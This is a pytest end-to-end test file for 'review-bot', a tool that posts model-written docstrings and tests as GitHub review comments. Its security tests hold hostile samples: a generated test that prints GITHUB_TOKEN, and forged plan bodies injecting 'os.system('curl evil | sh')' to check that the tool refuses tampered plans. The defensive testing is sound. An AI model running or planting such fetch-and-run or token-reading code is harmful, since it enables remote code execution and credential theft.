"""`review-bot review` end to end: real git repositories, real HTTP to a local GitHub stand-in
(through GITHUB_API_URL), the real sandbox; a scripted model except in one test."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from review_bot.commands import cli, main
from review_bot.github.records import MARKER_RE, SUMMARY_MARKER
from review_bot.llm.scripted import ScriptedBackend, scripted_info
from tests.helpers.github_stub import GitHubStub, workflow_run_event
from tests.helpers.repos import commit, git

ROOT = Path(__file__).resolve().parent.parent
REPO = "octo/demo"
TOKEN = "test-token"

BASE_CALC = '''\
def add(a: int, b: int) -> int:
    """Add two integers."""
    return a + b


def long(x: int) -> int:
    y = x + 1
    y = y + 1
    y = y + 1
    y = y + 1
    y = y + 1
    y = y + 1
    y = y + 1
    return y
'''

# The PR: two new functions, and a change at the end of `long`, far from its `def` line.
HEAD_CALC = (
    BASE_CALC.replace("    return y\n", "    return y * 2\n")
    + """

def scale(value: int, factor: int) -> int:
    return value * factor


def clamp(
    value: int,
    low: int,
    high: int,
) -> int:
    if value < low:
        return low
    if value > high:
        return high
    return value
"""
)

DOCS: dict[str, dict[str, Any]] = {
    "scale": {
        "summary": "Multiply a value by a factor.",
        "params": {"value": "The number to multiply.", "factor": "How many times to take it."},
        "returns": "The product.",
    },
    "clamp": {
        "summary": "Limit a value to a range.",
        "params": {
            "value": "The number to bring into range.",
            "low": "The least result.",
            "high": "The greatest result.",
        },
        "returns": "The number in range.",
    },
    "long": {
        "summary": "Add seven and double.",
        "params": {"x": "The start."},
        "returns": "Twice the sum of the start and seven.",
    },
}
TESTS = {
    "scale": "from calc import scale\n\n\ndef test_scale():\n    assert scale(3, 4) == 12\n",
    "clamp": (
        "from calc import clamp\n\n\ndef test_clamp():\n    assert clamp(5, 0, 3) == 3\n"
        "    assert clamp(-1, 0, 3) == 0\n    assert clamp(2, 0, 3) == 2\n"
    ),
    "long": "from calc import long\n\n\ndef test_long():\n    assert long(0) == 14\n",
}


def reply(prompt: str, tests: dict[str, str], docs: dict[str, dict[str, Any]]) -> str:
    """The scripted model: a docstring or a test for whichever function the prompt is about."""
    if "Describe it for its docstring" in prompt:
        name = re.search(r"def (\w+)\(", prompt)
        assert name is not None, prompt
        return json.dumps(docs[name.group(1)] | {"description": "", "raises": []})
    name = re.search(r"Write pytest tests for `(\w+)`", prompt)
    assert name is not None, prompt
    return f"```python\n{tests[name.group(1)]}```\n"


def scripted(
    tests: dict[str, str] | None = None, docs: dict[str, dict[str, Any]] | None = None
) -> ScriptedBackend:
    backend = ScriptedBackend(scripted_info())
    backend.default = lambda prompt: reply(prompt, tests or TESTS, docs or DOCS)
    return backend


class PR:
    """A repository with a base and a head commit, the event payload and the stub."""

    def __init__(
        self,
        tmp: Path,
        stub: GitHubStub,
        home: Path,
        base: dict[str, str] | None = None,
        head: dict[str, str] | None = None,
    ) -> None:
        self.tmp = tmp
        self.stub = stub
        self.home = home
        self.path = tmp / "repo"
        self.path.mkdir()
        git(self.path, "init", "-q", "-b", "main")
        pyproject = '[project]\nname = "demo"\nversion = "0"\n'
        files = {"pyproject.toml": pyproject, **(base or {"calc.py": BASE_CALC})}
        self.base = commit(self.path, files, "base")
        git(self.path, "checkout", "-q", "-b", "feature")
        self.files = files | (head or {"calc.py": HEAD_CALC})
        self.head = commit(self.path, head or {"calc.py": HEAD_CALC}, "feature")
        self.sleeps: list[float] = []  # the GitHub client's waits, recorded, never slept
        self.number = 7
        self.summary_file = tmp / "step-summary.md"
        self.summary_file.touch()
        self.event = tmp / "event.json"
        self.set_head(self.head)

    def set_head(self, head: str) -> None:
        self.head = head
        self.stub.add_pull(self.number, base=self.base, head=head, files=self.files)
        payload = {
            "action": "synchronize",
            "number": self.number,
            "pull_request": {
                "number": self.number,
                "base": {"sha": self.base},
                "head": {"sha": head},
            },
        }
        self.event.write_text(json.dumps(payload))

    def push(self, text: str) -> str:
        self.files = self.files | {"calc.py": text}
        self.set_head(commit(self.path, {"calc.py": text}, "push"))
        return self.head

    def env(self, smollm: Path, **extra: str) -> dict[str, str]:
        return {
            "GITHUB_EVENT_PATH": str(self.event),
            "GITHUB_REPOSITORY": REPO,
            "GITHUB_TOKEN": TOKEN,
            "GITHUB_API_URL": self.stub.url,
            "GITHUB_STEP_SUMMARY": str(self.summary_file),
            "REVIEW_BOT_MODEL": str(smollm),
            "REVIEW_BOT_STRATEGY": "chat",
            "REVIEW_BOT_RUNS": "1",
            "REVIEW_BOT_REPAIR_ATTEMPTS": "0",
            "REVIEW_BOT_TIMEOUT_S": "20",
            # Shared by this module's tests: the same function and model give the same
            # outcome, so only the first test pays for the sandbox runs.
            "REVIEW_BOT_HOME": str(self.home),
            **extra,
        }

    def review(
        self, smollm: Path, *args: str, backend: ScriptedBackend | None = None, **env: str
    ) -> Result:
        obj: dict[str, Any] = {"sleep": self.sleeps.append}
        if backend is not None:
            obj["backend_factory"] = lambda path, bundled, settings: backend
        return CliRunner().invoke(
            cli,
            ["review", "--checkout", str(self.path), "--retry-backoff", "0", *args],
            env=self.env(smollm, **env),
            obj=obj,
            catch_exceptions=True,
        )

    def hunks(self) -> dict[str, list[tuple[int, int]]]:
        """The head-side hunks of `git diff base...head`, read independently of review-bot."""
        text = git(self.path, "diff", "-U3", f"{self.base}...{self.head}")
        found: dict[str, list[tuple[int, int]]] = {}
        path = ""
        for line in text.splitlines():
            if line.startswith("+++ b/"):
                path = line[6:]
            m = re.match(r"@@ -\S+ \+(\d+)(?:,(\d+))? @@", line)
            if m:
                start, length = int(m.group(1)), int(m.group(2) or 1)
                found.setdefault(path, []).append((start, start + length - 1))
        return found


@pytest.fixture
def stub() -> Iterator[GitHubStub]:
    # An Enterprise-style prefix: only a client that honours GITHUB_API_URL gets through.
    with GitHubStub(token=TOKEN, prefix="/api/v3") as server:
        yield server


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("review-bot-home")


@pytest.fixture
def pr(tmp_path: Path, stub: GitHubStub, home: Path) -> PR:
    return PR(tmp_path, stub, home)


def ok(result: Result) -> Result:
    assert result.exit_code == 0, (result.output, result.exception)
    return result


def lines_of(comment: dict[str, Any]) -> range:
    return range(comment.get("start_line") or comment["line"], comment["line"] + 1)


def fingerprints(comments: list[dict[str, Any]]) -> list[str]:
    found = [MARKER_RE.search(c["body"]) for c in comments]
    return [m.group(1) for m in found if m]


# -- the first run ------------------------------------------------------------------------------


def test_one_review_on_hunk_lines_and_one_summary(pr: PR, stub: GitHubStub, smollm: Path) -> None:
    result = ok(pr.review(smollm, backend=scripted()))
    kept = r"^calc.py:\d+: calc.scale: test kept \(kills (\d+) of \1 mutants\), docstring kept$"
    assert re.search(kept, result.stderr, re.M), result.stderr
    # One review, through the Reviews API, on the head commit.
    [post] = stub.calls("POST", r"/pulls/7/reviews$")
    assert post.path == f"/repos/{REPO}/pulls/7/reviews"
    assert post.body["event"] == "COMMENT" and post.body["commit_id"] == pr.head
    assert post.headers["authorization"] == f"Bearer {TOKEN}"
    assert post.headers["x-github-api-version"] == "2022-11-28"
    comments = post.body["comments"]
    # scale and clamp: a docstring and a test each; long's test at its changed line, far
    # below its `def` (issue 12); long's docstring lines are outside the hunks.
    assert len(comments) == 5
    hunks = pr.hunks()["calc.py"]
    for comment in comments:
        assert comment["side"] == "RIGHT" and comment["path"] == "calc.py"
        assert any(start <= n <= end for start, end in hunks for n in lines_of(comment))
        assert any(all(s <= n <= e for n in lines_of(comment)) for s, e in hunks)
    head_lines = HEAD_CALC.splitlines()
    clamp_def = head_lines.index("def clamp(") + 1
    docs = [c for c in comments if "```suggestion" in c["body"]]
    tests = [c for c in comments if "<details>" in c["body"]]
    assert len(docs) == 2 and len(tests) == 3
    [long_test] = [c for c in tests if "`long`" in c["body"]]
    assert long_test["line"] == head_lines.index("    return y * 2") + 1
    # The multi-line signature: the suggestion replaces def..`) -> int:` with itself plus
    # the docstring, so one click commits it.
    [clamp_doc] = [c for c in docs if "`clamp`" in c["body"]]
    assert (clamp_doc["start_line"], clamp_doc["line"]) == (clamp_def, clamp_def + 4)
    assert clamp_doc["start_side"] == "RIGHT"
    suggestion = clamp_doc["body"].split("```suggestion\n", 1)[1].split("\n```", 1)[0]
    assert suggestion.startswith("def clamp(\n    value: int,\n    low: int,\n    high: int,\n")
    assert ') -> int:\n    """Limit a value to a range.\n\n    Args:\n' in suggestion
    [scale_test] = [c for c in tests if "`scale`" in c["body"]]
    assert scale_test["line"] == head_lines.index("def scale(value: int, factor: int) -> int:") + 1
    assert "start_line" not in scale_test
    assert "tests/test_calc_generated.py" in scale_test["body"]
    assert "```python\nfrom calc import scale" in scale_test["body"]
    assert len(set(fingerprints(comments))) == 5
    # The summary: one issue comment with the marker, long's docstring written out in it.
    [summary] = stub.issue_comments
    body = summary["body"]
    assert body.startswith(SUMMARY_MARKER)
    assert "Checked **3** changed functions" in body and "**6** verified suggestions" in body
    assert "5 inline, 1 below" in body and "#### Not placed inline" in body
    assert "docstring for `long`: replace line 6 of `calc.py`" in body
    assert "from calc import long" not in body
    assert "model `SmolLM2-135M-Instruct.Q4_1.gguf`" in body
    assert pr.summary_file.read_text().startswith(SUMMARY_MARKER)
    # The working tree was at head: used as is, and left as it was.
    assert git(pr.path, "status", "--porcelain") == ""


# -- re-runs ------------------------------------------------------------------------------------


def test_rerun_edits_the_summary_and_duplicates_nothing(
    pr: PR, stub: GitHubStub, smollm: Path
) -> None:
    ok(pr.review(smollm, backend=scripted(), REVIEW_BOT_TESTS="false"))
    comments = [dict(c) for c in stub.review_comments]
    [summary] = stub.issue_comments
    assert len(comments) == 2 and len(stub.reviews) == 1
    stub.requests.clear()
    silent = ScriptedBackend(scripted_info())  # raises if the model is asked anything
    ok(pr.review(smollm, backend=silent, REVIEW_BOT_TESTS="false"))
    assert silent.calls == []  # the cache answered
    assert stub.calls("POST") == [] and stub.calls("DELETE") == []
    assert stub.review_comments == comments and len(stub.reviews) == 1
    # The summary was edited in place (or left alone when nothing in it changed).
    assert [c["id"] for c in stub.issue_comments] == [summary["id"]]
    assert stub.calls("PATCH") in ([], stub.calls("PATCH", f"/issues/comments/{summary['id']}$"))
    # Both lists were read with the largest page GitHub allows.
    for get in stub.calls("GET", r"/(pulls|issues)/7/comments$"):
        assert get.query == {"per_page": "100"}


def test_summary_is_found_across_pages_and_edited_in_place(
    pr: PR, stub: GitHubStub, smollm: Path
) -> None:
    stub.page_size = 2
    for n in range(5):  # other people's comments come first
        stub.issue_comments.append({"id": n + 1, "issue": 7, "body": f"comment {n}"})
    ok(pr.review(smollm, backend=scripted(), REVIEW_BOT_TESTS="false"))
    [ours] = [c for c in stub.issue_comments if SUMMARY_MARKER in c["body"]]
    pr.push(HEAD_CALC + "\n\nX = 1\n")  # the summary names the new head
    ok(pr.review(smollm, backend=scripted(), REVIEW_BOT_TESTS="false"))
    assert [c for c in stub.issue_comments if SUMMARY_MARKER in c["body"]] == [ours]
    [patch] = stub.calls("PATCH")
    assert patch.path == f"/repos/{REPO}/issues/comments/{ours['id']}"
    assert len(stub.calls("POST", r"/issues/7/comments$")) == 1
    pages = [r.query.get("page") for r in stub.calls("GET", r"/issues/7/comments$")]
    assert pages == [None, "2", "3"] * 2  # 5, then 6 comments, 2 a page, via rel="next"


def test_new_push_deletes_stale_comments_unless_someone_replied(
    pr: PR, stub: GitHubStub, smollm: Path
) -> None:
    ok(pr.review(smollm, backend=scripted(), REVIEW_BOT_TESTS="false"))
    scale_old = next(c for c in stub.review_comments if "`scale`" in c["body"])
    clamp_old = next(c for c in stub.review_comments if "`clamp`" in c["body"])
    stub.reply(clamp_old, "Do we need this?")
    # The push renames scale's parameter and removes clamp.
    new_text = HEAD_CALC.replace("factor", "by")
    new_text = new_text[: new_text.index("\n\ndef clamp(")] + "\n"
    pr.push(new_text)
    docs = DOCS | {
        "scale": DOCS["scale"]
        | {"params": {"value": "The number to multiply.", "by": "How many times."}}
    }
    stub.requests.clear()
    ok(pr.review(smollm, backend=scripted(docs=docs), REVIEW_BOT_TESTS="false"))
    [delete] = stub.calls("DELETE")
    assert delete.path == f"/repos/{REPO}/pulls/comments/{scale_old['id']}"
    ids = [c["id"] for c in stub.review_comments]
    assert scale_old["id"] not in ids and clamp_old["id"] in ids  # the discussion stays
    [post] = stub.calls("POST", r"/reviews$")
    [new] = post.body["comments"]
    assert "def scale(value: int, by: int) -> int:" in new["body"]
    assert post.body["commit_id"] == pr.head


def test_outdated_comment_is_replaced(pr: PR, stub: GitHubStub, smollm: Path) -> None:
    ok(pr.review(smollm, backend=scripted(), REVIEW_BOT_TESTS="false"))
    old = next(c for c in stub.review_comments if "`scale`" in c["body"])
    old["line"] = None  # what GitHub reports once the line has gone from the diff
    stub.requests.clear()
    # Somebody deleted it by hand meanwhile: a 404 on DELETE is not an error.
    stub.fail("DELETE", r"/pulls/comments/\d+$", 404, message="Not Found")
    ok(pr.review(smollm, backend=scripted(), REVIEW_BOT_TESTS="false"))
    assert [r.path for r in stub.calls("DELETE")] == [f"/repos/{REPO}/pulls/comments/{old['id']}"]
    [post] = stub.calls("POST", r"/reviews$")
    assert fingerprints(post.body["comments"]) == fingerprints([old])


# -- what GitHub refuses ------------------------------------------------------------------------


def test_422_falls_back_to_the_valid_comments(pr: PR, stub: GitHubStub, smollm: Path) -> None:
    # GitHub's idea of the diff disagrees on scale's line: the whole review is refused.
    head_lines = HEAD_CALC.splitlines()
    scale_def = head_lines.index("def scale(value: int, factor: int) -> int:") + 1
    valid = {n for s, e in pr.hunks()["calc.py"] for n in range(s, e + 1)} - {scale_def}
    stub.valid_lines = {"calc.py": valid}
    result = ok(pr.review(smollm, backend=scripted(), REVIEW_BOT_TESTS="false"))
    assert len(stub.calls("POST", r"/reviews$")) == 1 and stub.reviews == []
    singles = stub.calls("POST", r"/pulls/7/comments$")
    assert len(singles) == 2 and all(r.body["commit_id"] == pr.head for r in singles)
    [placed] = stub.review_comments
    assert "`clamp`" in placed["body"]
    [summary] = stub.issue_comments
    assert "docstring for `scale`: replace line" in summary["body"]
    assert "1 inline, 2 below" in summary["body"]
    assert "posting the comments one at a time" in result.output


def test_read_only_token_degrades_to_annotations(pr: PR, stub: GitHubStub, smollm: Path) -> None:
    stub.read_only = True  # a pull request from a fork
    result = ok(pr.review(smollm, backend=scripted(), REVIEW_BOT_TESTS="false"))
    assert stub.review_comments == [] and stub.issue_comments == []
    notices = [line for line in result.stdout.splitlines() if line.startswith("::")]
    assert len(notices) == 3
    clamp_def = HEAD_CALC.splitlines().index("def clamp(") + 1
    [clamp] = [n for n in notices if "clamp" in n]
    assert clamp.startswith(
        f"::notice file=calc.py,line={clamp_def},endLine={clamp_def + 4},"
        "title=review-bot%3A docstring for clamp::Suggested replacement for lines"
    )
    assert "%0Adef clamp(%0A    value: int,%0A" in clamp and "\n" not in clamp
    summary = pr.summary_file.read_text()
    assert "could not write to the pull request" in summary
    assert "docstring for `scale`: replace line" in summary
    assert "Resource not accessible by integration" in result.stderr
    failing = pr.review(
        smollm,
        "--level",
        "warning",
        "--fail-level",
        "any",
        backend=scripted(),
        REVIEW_BOT_TESTS="false",
    )
    assert failing.exit_code == 1
    assert sum(line.startswith("::warning file=") for line in failing.stdout.splitlines()) == 3


def test_rate_limits_and_server_errors_are_retried(pr: PR, stub: GitHubStub, smollm: Path) -> None:
    stub.fail("POST", r"/reviews$", 429, headers={"retry-after": "0"})
    stub.fail("POST", r"/reviews$", 502)
    stub.fail(
        "POST",
        r"/reviews$",
        403,
        headers={"x-ratelimit-remaining": "0", "x-ratelimit-reset": "0"},
        message="API rate limit exceeded",
    )
    ok(pr.review(smollm, backend=scripted(), REVIEW_BOT_TESTS="false"))
    assert len(stub.calls("POST", r"/reviews$")) == 4 and len(stub.reviews) == 1


def test_retries_are_bounded(pr: PR, stub: GitHubStub, smollm: Path) -> None:
    stub.fail("GET", r"/pulls/7/comments$", 500, times=20)
    result = pr.review(smollm, "--retries", "2", backend=scripted(), REVIEW_BOT_TESTS="false")
    assert result.exit_code == 1
    assert "answered 500 after 3 attempts" in str(result.exception)
    assert len(stub.calls("GET", r"/comments$")) == 3 and stub.calls("POST") == []


# -- the fork-safe pair: --dry-run in the unprivileged job, --post-from with the token -----------


def post_env(
    pr: PR,
    *,
    head_repository: str = REPO,
    head_branch: str = "feature",
    pulls: list[int] | None = None,
) -> dict[str, str]:
    """The workflow_run job's environment: its own event, no checkout, the token. A branch
    of this repository by default (GitHub lists its pull request); a fork's run lists none."""
    event = pr.tmp / "workflow_run.json"
    payload = workflow_run_event(
        pr.head,
        head_repository=head_repository,
        head_branch=head_branch,
        pull_requests=[pr.number] if pulls is None else pulls,
    )
    event.write_text(json.dumps(payload))
    return {
        "GITHUB_EVENT_PATH": str(event),
        "GITHUB_REPOSITORY": REPO,
        "GITHUB_TOKEN": TOKEN,
        "GITHUB_API_URL": pr.stub.url,
        "GITHUB_STEP_SUMMARY": str(pr.summary_file),
    }


class Posting:
    """`review-bot review --post-from` in this process, from a directory with no checkout."""

    def __init__(
        self,
        pr: PR,
        monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str],
        **event: Any,
    ) -> None:
        self.capsys = capsys
        empty = pr.tmp / "no-checkout"
        empty.mkdir(exist_ok=True)
        monkeypatch.chdir(empty)
        self.env = post_env(pr, **event)
        self.monkeypatch = monkeypatch

    def __call__(self, plan: Path, *args: str) -> tuple[int, str]:
        for name, value in self.env.items():
            self.monkeypatch.setenv(name, value)
        code = main(["review", "--post-from", str(plan), *args])
        return code, self.capsys.readouterr().err


def test_dry_run_then_post_from(
    pr: PR,
    stub: GitHubStub,
    smollm: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    # The Actions checkout of a pull request is not its head: here the base is checked out.
    git(pr.path, "checkout", "-q", "main")
    plan_file = pr.tmp / "artifact" / "review.json"
    args = ("--dry-run", "--output", str(plan_file))
    ok(pr.review(smollm, *args, backend=scripted(), REVIEW_BOT_TESTS="false", GITHUB_TOKEN=""))
    assert stub.requests == []  # no token needed, nothing sent
    assert git(pr.path, "status", "--porcelain") == ""
    plan = json.loads(plan_file.read_text())
    assert (plan["repo"], plan["pr"], plan["head"]) == (REPO, 7, pr.head)
    review = plan["review"]
    assert review["event"] == "COMMENT" and review["commit_id"] == pr.head
    assert len(review["comments"]) == 2 and plan["summary"].startswith(SUMMARY_MARKER)
    # Line numbers are the head's, although the working tree held the base.
    clamp_def = HEAD_CALC.splitlines().index("def clamp(") + 1
    assert any(c.get("start_line") == clamp_def for c in review["comments"])

    post = Posting(pr, monkeypatch, capsys)
    # A plan for another commit than the workflow run's head is refused.
    code, err = post(plan_file, "--head", pr.base)
    assert code == 1 and "not posting it" in err
    code, err = post(plan_file, "--pr", "8")
    assert code == 1 and "for pull request #7, not #8" in err
    assert stub.requests == []

    assert post(plan_file, "--head", pr.head)[0] == 0
    assert [r.path for r in stub.calls("GET", r"/pulls/7$")] == [f"/repos/{REPO}/pulls/7"]
    [posted] = stub.calls("POST", r"/reviews$")
    assert posted.body == review
    assert [c["body"] for c in stub.issue_comments] == [plan["summary"]]

    # The pull request moved on: the old plan is not posted.
    stub.requests.clear()
    pr.push(HEAD_CALC + "\n\nX = 1\n")
    code, err = post(plan_file)
    assert code == 0 and "has moved on" in err
    assert stub.calls("POST") == [] and stub.calls("PATCH") == []


def dry_run(pr: PR, smollm: Path) -> Path:
    plan_file = pr.tmp / "artifact" / "review.json"
    args = ("--dry-run", "--output", str(plan_file))
    ok(pr.review(smollm, *args, backend=scripted(), REVIEW_BOT_TESTS="false", GITHUB_TOKEN=""))
    return plan_file


def test_post_from_checks_the_pull_request_against_the_workflow_run(
    pr: PR,
    stub: GitHubStub,
    smollm: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    plan_file = dry_run(pr, smollm)
    # A fork's run (GitHub lists no pull request) whose artifact names #7, a pull request
    # with the very same head commit, opened from another repository: refused.
    fork = {"head_repository": "mallory/demo", "head_branch": "feature", "pulls": []}
    code, err = Posting(pr, monkeypatch, capsys, **fork)(plan_file)
    assert code == 1 and "is from octo/demo:feature" in err and "mallory/demo:feature" in err
    # Same repository, another branch.
    other = {"head_branch": "other", "pulls": []}
    code, err = Posting(pr, monkeypatch, capsys, **other)(plan_file)
    assert code == 1 and "not posting it" in err
    # GitHub listed the run's pull requests, and #7 is not among them.
    code, err = Posting(pr, monkeypatch, capsys, pulls=[8])(plan_file)
    assert code == 1 and "the workflow run was for #8, not #7" in err
    assert stub.calls("POST") == [] and stub.calls("PATCH") == []
    # The fork's own pull request: its head repository and branch are the run's.
    stub.add_pull(7, base=pr.base, head=pr.head, head_repo="mallory/demo")
    assert Posting(pr, monkeypatch, capsys, **fork)(plan_file)[0] == 0
    assert len(stub.calls("POST", "/reviews$")) == 1


def test_a_push_outdates_comments_and_they_are_replaced(
    pr: PR, stub: GitHubStub, smollm: Path
) -> None:
    ok(pr.review(smollm, backend=scripted(), REVIEW_BOT_TESTS="false"))
    before = {c["id"]: c["line"] for c in stub.review_comments}
    # The push moves every line of scale and clamp two down: GitHub outdates the comments.
    pr.push(HEAD_CALC.replace("\n\ndef scale", "\n\nY = 1\nZ = 2\n\ndef scale"))
    assert all(c["line"] is None for c in stub.review_comments) and before
    ok(pr.review(smollm, backend=scripted(), REVIEW_BOT_TESTS="false"))
    assert {r.path.rsplit("/", 1)[1] for r in stub.calls("DELETE")} == {str(i) for i in before}
    assert len(stub.review_comments) == 2
    assert all(isinstance(c["line"], int) for c in stub.review_comments)


def test_the_posting_identity_can_be_given(pr: PR, stub: GitHubStub, smollm: Path) -> None:
    stub.login = "review-app[bot]"
    ok(pr.review(smollm, backend=scripted(), REVIEW_BOT_TESTS="false"))
    ok(pr.review(smollm, backend=scripted(), REVIEW_BOT_TESTS="false"))
    # Without it, /user (403 for this stand-in's Actions-like token) says github-actions[bot],
    # and the app's own comments are not recognised: a second review and summary.
    assert len(stub.reviews) == 2 and len(stub.issue_comments) == 2
    stub.requests.clear()
    result = pr.review(
        smollm, backend=scripted(), REVIEW_BOT_TESTS="false", REVIEW_BOT_BOT_LOGIN="review-app[bot]"
    )
    ok(result)
    assert stub.calls("GET", "^/user$") == [] and stub.calls("POST") == []


def test_post_from_refuses_a_forged_plan(pr: PR, stub: GitHubStub, tmp_path: Path) -> None:
    forged = tmp_path / "forged.json"
    forged.write_text(json.dumps({"review_bot": 1, "repo": REPO, "pr": 7, "base": "x"}))
    empty = tmp_path / "no-checkout"
    empty.mkdir()
    done = subprocess.run(
        [sys.executable, "-m", "review_bot", "review", "--post-from", str(forged)],
        cwd=empty,
        env={**os.environ, **post_env(pr), "PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 1
    assert done.stderr.startswith("Error: ") and "not a review-bot plan" in done.stderr
    assert stub.requests == []


# -- secrets and no-ops -------------------------------------------------------------------------

LEAK_TEST = """\
import os

from mathx import double


def test_double():
    print("token:", os.environ.get("GITHUB_TOKEN"))
    assert os.environ.get("GITHUB_TOKEN") is None
    assert double(2) == 4
"""


def test_generated_tests_never_see_the_token(
    tmp_path: Path, stub: GitHubStub, home: Path, smollm: Path
) -> None:
    head = {"mathx.py": "def double(x: int) -> int:\n    return 2 * x\n"}
    pr = PR(tmp_path, stub, home, base={"README.md": "demo\n"}, head=head)
    seen: list[str | None] = []

    def model(prompt: str) -> str:
        seen.append(os.environ.get("GITHUB_TOKEN"))  # the parent process holds the token
        return f"```python\n{LEAK_TEST}```\n"

    backend = ScriptedBackend(scripted_info())
    backend.default = model
    result = ok(pr.review(smollm, backend=backend, REVIEW_BOT_DOCSTRINGS="false"))
    assert seen == [TOKEN]
    # The assertion that the token is absent passed inside the sandbox; then the test was
    # screened out (issue 22): its own text reads the environment, which a kept test
    # would do outside the jail, in the user's pytest.
    assert "chat#0: unsafe: uses os.environ (line 7)" in result.stdout + result.stderr
    assert stub.calls("POST", r"/reviews$") == []
    assert TOKEN not in json.dumps(stub.issue_comments)


def test_no_python_change_loads_no_model_and_posts_nothing(
    tmp_path: Path, stub: GitHubStub, home: Path, smollm: Path
) -> None:
    pr = PR(tmp_path, stub, home, base={"README.md": "a\n"}, head={"README.md": "b\n"})
    result = pr.review(smollm, REVIEW_BOT_MODEL=str(tmp_path / "missing.gguf"))
    ok(result)
    assert stub.calls("POST") == [] and stub.calls("PATCH") == []
    assert "No changed Python function" in pr.summary_file.read_text()


def test_unreadable_files_are_noted_and_a_kept_token_is_warned_about(
    tmp_path: Path, stub: GitHubStub, home: Path, smollm: Path
) -> None:
    head = {
        "calc.py": HEAD_CALC,
        "broken.py": "def f(:\n    pass\n",
        "tests/test_calc.py": "def test_nothing():\n    assert True\n",  # no tests for tests
    }
    pr = PR(tmp_path, stub, home, head=head)
    git(pr.path, "config", "http.https://example.invalid/.extraheader", "AUTHORIZATION: basic x")
    result = ok(pr.review(smollm, backend=scripted(), REVIEW_BOT_TESTS="false"))
    assert "check out with persist-credentials: false" in result.stderr
    [summary] = stub.issue_comments
    assert "- broken.py: skipped (line 1: syntax error" in summary["body"]
    assert "Checked **3** changed functions in 2 files" in summary["body"]
    assert "test_nothing" not in summary["body"]


def test_missing_base_commit_is_a_one_line_error(
    pr: PR, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], smollm: Path
) -> None:
    for name, value in pr.env(smollm).items():
        monkeypatch.setenv(name, value)
    assert main(["review", "--checkout", str(pr.path), "--base", "1" * 40]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "fetch-depth: 0" in err and err.startswith("Error: ")
    assert pr.stub.requests == []


def test_usage_errors(pr: PR, smollm: Path) -> None:
    result = pr.review(smollm, "--output", "review.json")
    assert result.exit_code == 2 and "--output goes with --dry-run" in result.output
    plan = pr.tmp / "plan.json"
    plan.write_text("{}")
    result = pr.review(smollm, "--dry-run", "--post-from", str(plan))
    assert result.exit_code == 2 and "exclude each other" in result.output
    assert pr.stub.requests == []


def test_missing_token_fails_before_the_model_runs(
    pr: PR, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], smollm: Path
) -> None:
    for name, value in pr.env(smollm, REVIEW_BOT_MODEL="/nonexistent.gguf").items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("GITHUB_TOKEN")
    assert main(["review", "--checkout", str(pr.path)]) == 1
    assert "no GitHub token" in capsys.readouterr().err


# -- the real model -------------------------------------------------------------------------------


@pytest.mark.model
def test_real_model_review_is_posted_once(tmp_path: Path, stub: GitHubStub, smollm: Path) -> None:
    head = {"mathx.py": "def triple(x: int) -> int:\n    return 3 * x\n"}
    pr = PR(tmp_path, stub, tmp_path / "home", base={"README.md": "demo\n"}, head=head)
    env = {
        **os.environ,
        # Tests only, three cases: the 135M model's cases strategy keeps one in seconds.
        **pr.env(
            smollm,
            REVIEW_BOT_STRATEGY="cases",
            REVIEW_BOT_RUNS="2",
            REVIEW_BOT_N_CASES="3",
            REVIEW_BOT_DOCSTRINGS="false",
        ),
        "PYTHONPATH": str(ROOT),
    }
    done = subprocess.run(
        [sys.executable, "-m", "review_bot", "review", "--checkout", str(pr.path)],
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert done.returncode == 0, done.stderr
    posts = stub.calls("POST", r"/reviews$")
    [summary] = stub.issue_comments
    assert "Checked **1** changed function" in summary["body"]
    assert "SmolLM2" in summary["body"]
    assert len(posts) == 1, summary["body"]
    [comment] = posts[0].body["comments"]
    assert (comment["path"], comment["line"], comment["side"]) == ("mathx.py", 1, "RIGHT")
    assert "from mathx import triple" in comment["body"]
    assert posts[0].body["commit_id"] == pr.head
    # The cell carries the kept test's mutation score: "kept (inline), kills k/n mutants".
    cell = re.search(
        r"\| `mathx\.triple` `mathx\.py:1` \| kept \(inline\), kills (\d+)/(\d+) mutants \|",
        summary["body"],
    )
    assert cell is not None, summary["body"]
    assert 1 <= int(cell[1]) <= int(cell[2])


def test_post_from_posts_only_what_review_bot_would_render(
    pr: PR,
    stub: GitHubStub,
    smollm: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    # Issue 22: a plan from `--dry-run` whose body was edited was posted verbatim by
    # `--post-from` (a suggestion adding `os.system(...)`).
    from review_bot.github.plan import docstring_body, fingerprint

    git(pr.path, "checkout", "-q", "main")
    plan_file = pr.tmp / "artifact" / "review.json"
    args = ("--dry-run", "--output", str(plan_file))
    ok(pr.review(smollm, *args, backend=scripted(), REVIEW_BOT_TESTS="false", GITHUB_TOKEN=""))
    original = json.loads(plan_file.read_text())
    post = Posting(pr, monkeypatch, capsys)

    edited = json.loads(json.dumps(original))
    first = edited["suggestions"][0]
    first["body"] += "\n```suggestion\nimport os; os.system('curl evil | sh')\n```\n"
    plan_file.write_text(json.dumps(edited))
    code, err = post(plan_file, "--head", pr.head)
    assert code == 1 and "its body differs from what review-bot renders" in err, err

    # Content, fingerprint and body all made consistent: the content is screened again.
    forged = json.loads(json.dumps(original))
    first = forged["suggestions"][0]
    first["content"] += "\n    >>> __import__('os').system('curl evil | sh')"
    first["fingerprint"] = fingerprint(
        first["path"], first["qualname"], "docstring", first["content"]
    )
    first["body"] = docstring_body(
        first["fingerprint"], first["code"], first["qualname"], "google", first["content"]
    )
    plan_file.write_text(json.dumps(forged))
    code, err = post(plan_file, "--head", pr.head)
    assert code == 1 and "unsafe example: uses __import__" in err, err
    assert stub.calls("POST") == [] and stub.calls("PATCH") == []

    plan_file.write_text(json.dumps(original))
